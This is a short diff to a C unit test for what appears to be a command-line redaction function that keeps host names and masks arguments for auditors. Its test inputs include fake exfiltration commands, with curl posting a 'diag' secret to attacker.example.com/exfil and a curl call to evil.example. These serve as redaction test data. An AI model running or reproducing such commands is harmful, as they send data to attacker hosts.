@@ -19,7 +19,8 @@ static void keeps_what_an_auditor_needs(void **state)
     (void)state;
     expect("curl -sS -X POST https://attacker.example.com/exfil -d diag=s3cr3t",
            "curl -sS -X <redacted> https://attacker.example.com<redacted> -d <redacted>");
-    expect("curl --url=https://evil.example:8443/p?q=1", "curl --url=https://evil.example:8443<redacted>");
+    expect("curl --url=https://evil.example:8443/p?q=1",
+           "curl --url=https://evil.example:8443<redacted>");
     expect("node /app/agent.js", "node <redacted>");
     expect("git push origin main", "git <redacted> <redacted> <redacted>");
     expect("/usr/bin/python3", "/usr/bin/python3");
